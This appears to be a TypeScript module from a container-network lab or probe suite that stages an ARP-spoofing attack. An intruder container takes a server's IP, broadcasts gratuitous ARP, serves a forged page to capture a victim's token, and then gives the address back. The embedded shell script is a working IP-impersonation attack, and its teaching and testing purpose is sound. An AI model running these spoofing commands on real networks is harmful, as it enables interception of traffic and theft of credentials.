import { setTimeout as sleep } from 'node:timers/promises'
import { type HostProbe, msg, ProbeError, verbatim } from '../../contract/index.ts'
import { execIn } from '../shared/exec-in.ts'
import type { Step } from '../shared/attempt.ts'

/** What is said to the learner of each step. */

export interface Imposture {
  host: HostProbe
  server: string
  victim: string
  intruder: string
  /** The server's address on the network that it shares with the victim. */
  address: string
  port: number
}

/** How many times the victim asks, a second apart; the intruder stays for a little longer. */
const ASKS = 5

/** What a script says in a running container, with the rights of whoever took that over. */
export async function runIn(host: HostProbe, container: string, script: string): Promise<string> {
  const outcome = await execIn(host, container, { cmd: ['sh', '-c', script] })
  return ('output' in outcome ? outcome.output : outcome.refused).trim()
}

/**
 * Takes the server's address, says so to everybody on the network by ARP, and answers on its port. Whether a
 * token that the victim then sends ends up with the intruder. The address is given back in any case.
 */
export async function impersonate(
  { host, server, victim, intruder, address, port }: Imposture,
  token: string,
  step: Step,
): Promise<boolean> {
  const [output] = await Promise.all([
    runIn(host, intruder, takeAddress(address, port)),
    runIn(host, victim, sendToken(address, port, token)),
  ])
  const caught = output.includes(token)
  step(
    msg`As ${intruder}: take ${address}, tell the network so by ARP, and listen on port ${port} while ${victim} sends ${server} the token ${token}`,
    caught
      ? msg`${victim} believed it: the token arrived at ${intruder}.`
      : output.includes('address taken')
        ? msg`${intruder} gave itself the address, and nobody came by.`
        : msg`${intruder} may not: ${output === '' ? msg`no answer` : verbatim(output.slice(0, 160))}`,
    caught,
  )
  if (caught) await giveBack({ host, server, victim, address, port }, step)
  return caught
}

/** Bounded by `timeout`, and undone when the shell ends, however it does. */
function takeAddress(address: string, port: number): string {
  return `dev=$(ip -o -4 addr show | awk '$2 != "lo" { print $2; exit }')
fake=$(mktemp -d)
ip addr add ${address}/32 dev "$dev" || exit 1
trap 'ip addr del ${address}/32 dev "$dev"; rm -rf "$fake"' EXIT
echo 'address taken'
echo 'a forged answer' > "$fake/index.html"
timeout ${ASKS + 3} httpd -f -vv -p ${address}:${port} -h "$fake" 2> "$fake/log" &
for i in 1 2 3; do arping -q -U -c 1 -w 2 -I "$dev" ${address}; done
wait
cat "$fake/log"`
}

function sendToken(address: string, port: number, token: string): string {
  const asks = Array.from({ length: ASKS }, (_, index) => index + 1).join(' ')
  return `for i in ${asks}; do sleep 1; wget -q -T 1 -O /dev/null http://${address}:${port}/${token}; done`
}

/** The server tells the network where its address really is; then the victim has to hear from it again. */
async function giveBack(
  { host, server, victim, address, port }: Omit<Imposture, 'intruder'>,
  step: Step,
): Promise<void> {
  const announce = `dev=$(ip -o -4 addr show | awk '$4 ~ "^${address}/" { print $2; exit }')
arping -q -U -c 2 -w 3 -I "$dev" ${address}`
  await runIn(host, server, announce)
  const ask = `wget -q -T 2 -O - http://${address}:${port}/`
  const own = `wget -q -T 2 -O - http://127.0.0.1:${port}/`
  for (let tries = 0; tries < 10; tries++) {
    const [heard, said] = await Promise.all([runIn(host, victim, ask), runIn(host, server, own)])
    if (heard !== '' && heard === said) {
      step(msg`Give ${address} back to ${server}`, msg`${victim} is answered by ${server} again.`, true)
      return
    }
    await sleep(1000)
  }
  throw new ProbeError(msg`${victim} does not hear from ${server} again after the attempt`)
}
